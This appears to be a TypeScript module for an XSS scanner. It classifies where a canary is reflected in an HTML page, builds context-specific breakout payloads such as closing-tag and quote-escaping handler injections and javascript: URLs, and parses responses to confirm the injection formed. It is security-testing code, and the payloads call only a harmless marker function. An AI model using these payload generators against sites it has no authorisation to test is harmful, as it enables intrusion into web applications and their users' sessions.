// XSS support: where a canary lands in a parsed page (its reflection context), the payload that
// breaks out of each context, and the parse that confirms an injected element or handler formed.
import { Parser } from 'htmlparser2';

export type ReflectionContext =
  | { kind: 'text' }
  | { kind: 'rcdata'; tag: string }
  | { kind: 'script'; state: JsState }
  | { kind: 'attr'; tag: string; name: string; quote: '"' | "'" | null; urlStart: boolean }
  | { kind: 'comment' };

export type JsState = 'code' | 'sq' | 'dq' | 'tpl' | 'line-comment' | 'block-comment';

const RCDATA = new Set(['textarea', 'title', 'noscript', 'xmp', 'iframe', 'noembed', 'noframes', 'style']);
const URL_ATTRS = new Set(['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'poster']);

/** The lexical state of a script at `at`: inside which kind of string or comment, or code. */
export function jsStateAt(src: string, at: number): JsState {
  let state: JsState = 'code';
  for (let i = 0; i < at && i < src.length; i++) {
    const c = src[i];
    const next = src[i + 1];
    switch (state) {
      case 'code':
        if (c === "'") state = 'sq';
        else if (c === '"') state = 'dq';
        else if (c === '`') state = 'tpl';
        else if (c === '/' && next === '/') state = 'line-comment';
        else if (c === '/' && next === '*') {
          state = 'block-comment';
          i++;
        }
        break;
      case 'sq':
      case 'dq':
      case 'tpl':
        if (c === '\\') i++;
        else if ((state === 'sq' && c === "'") || (state === 'dq' && c === '"') || (state === 'tpl' && c === '`')) state = 'code';
        else if (c === '\n' && state !== 'tpl') state = 'code';
        break;
      case 'line-comment':
        if (c === '\n') state = 'code';
        break;
      case 'block-comment':
        if (c === '*' && next === '/') {
          state = 'code';
          i++;
        }
        break;
    }
  }
  return state;
}

/** Every context in which `canary` appears in the parsed page. */
export function reflectionContexts(html: string, canary: string): ReflectionContext[] {
  const out: ReflectionContext[] = [];
  const stack: string[] = [];
  let tag = '';
  let scriptText = '';
  const parser = new Parser(
    {
      onopentagname: (name) => {
        tag = name;
      },
      onattribute: (name, value, quote) => {
        const at = value.indexOf(canary);
        if (at === -1) return;
        const q = quote === '"' || quote === "'" ? quote : null;
        out.push({ kind: 'attr', tag, name, quote: q, urlStart: URL_ATTRS.has(name) && at === 0 });
        if (name.startsWith('on')) out.push({ kind: 'script', state: jsStateAt(value, at) });
      },
      onopentag: (name) => {
        stack.push(name);
        if (name === 'script') scriptText = '';
      },
      ontext: (text) => {
        const parent = stack[stack.length - 1] ?? '';
        if (parent === 'script') {
          scriptText += text;
          return;
        }
        if (!text.includes(canary)) return;
        out.push(RCDATA.has(parent) ? { kind: 'rcdata', tag: parent } : { kind: 'text' });
      },
      onclosetag: (name) => {
        if (name === 'script') {
          for (let at = scriptText.indexOf(canary); at !== -1; at = scriptText.indexOf(canary, at + 1)) out.push({ kind: 'script', state: jsStateAt(scriptText, at) });
          scriptText = '';
        }
        const i = stack.lastIndexOf(name);
        if (i !== -1) stack.length = i;
      },
      oncomment: (data) => {
        if (data.includes(canary)) out.push({ kind: 'comment' });
      },
    },
    { decodeEntities: true },
  );
  parser.write(html);
  parser.end();
  const seen = new Set<string>();
  return out.filter((c) => {
    const k = JSON.stringify(c);
    if (seen.has(k)) return false;
    seen.add(k);
    return true;
  });
}

/** Payloads for one context; `t` is a random tag name, `m` a random function name. */
export function payloadsFor(ctx: ReflectionContext, t: string, m: string): string[] {
  const el = `<${t} onmouseover=${m}(1)>`;
  switch (ctx.kind) {
    case 'text':
      return [el];
    case 'rcdata':
      return [`</${ctx.tag}>${el}`];
    case 'comment':
      return [`-->${el}`];
    case 'script':
      if (ctx.state === 'sq') return [`'-${m}(1)-'`, `</script>${el}`];
      if (ctx.state === 'dq') return [`"-${m}(1)-"`, `</script>${el}`];
      if (ctx.state === 'tpl') return ['`-' + m + '(1)-`', '${' + m + '(1)}'];
      if (ctx.state === 'code') return [`;${m}(1);//`];
      return [`\n${m}(1);//`, `</script>${el}`];
    case 'attr': {
      const out: string[] = [];
      if (ctx.urlStart) out.push(`javascript:${m}(1)`);
      // a leading value: after "class=" the parser skips spaces, so the handler must follow one
      if (ctx.quote === null) out.push(`x onmouseover=${m}(1)`);
      else out.push(`${ctx.quote} onmouseover=${m}(1) x=${ctx.quote}`, `${ctx.quote}>${el}`);
      return out;
    }
  }
}

export interface Formed {
  /** One line naming what formed, for the first line of the proof. */
  what: string;
}

/**
 * Parses the page and looks for what only a successful injection builds: an element with our tag
 * name, an event-handler attribute calling our function, a javascript: URL calling it, or our call
 * in a script outside any string or comment.
 */
export function confirmFormed(html: string, t: string, m: string): Formed | null {
  let found: Formed | null = null;
  const call = `${m}(1)`;
  const stack: string[] = [];
  let scriptText = '';
  const parser = new Parser(
    {
      onopentag: (name, attribs) => {
        stack.push(name);
        if (name === 'script') scriptText = '';
        if (found) return;
        if (name === t) {
          const handler = Object.entries(attribs).find(([k, v]) => k.startsWith('on') && v.includes(call));
          found = { what: `<${t}${handler ? ` ${handler[0]}=${handler[1]}` : ''}> element formed in the page` };
          return;
        }
        for (const [k, v] of Object.entries(attribs)) {
          if (k.startsWith('on') && jsCodeCalls(v, call)) {
            found = { what: `<${name} ${k}="${v}"> event handler formed in the page` };
            return;
          }
          if (URL_ATTRS.has(k) && /^\s*javascript:/i.test(v) && jsCodeCalls(v.replace(/^\s*javascript:/i, ''), call)) {
            found = { what: `<${name} ${k}="${v}"> javascript: URL formed in the page` };
            return;
          }
        }
      },
      ontext: (text) => {
        if (stack[stack.length - 1] === 'script') scriptText += text;
      },
      onclosetag: (name) => {
        if (name === 'script' && !found && jsCodeCalls(scriptText, call)) {
          const at = scriptText.indexOf(call);
          found = { what: `${scriptText.slice(Math.max(0, at - 40), at + call.length + 20).trim()}\n${call} runs as code in a <script> block (outside any string or comment)` };
        }
        if (name === 'script') scriptText = '';
        const i = stack.lastIndexOf(name);
        if (i !== -1) stack.length = i;
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  return found;
}

function jsCodeCalls(src: string, call: string): boolean {
  for (let at = src.indexOf(call); at !== -1; at = src.indexOf(call, at + 1)) if (jsStateAt(src, at) === 'code') return true;
  return false;
}

/** Only pages a browser renders as HTML can run injected markup. */
export function isHtmlResponse(headers: Record<string, string>): boolean {
  const ct = (headers['content-type'] ?? '').toLowerCase();
  return ct === '' || ct.includes('text/html') || ct.includes('application/xhtml');
}
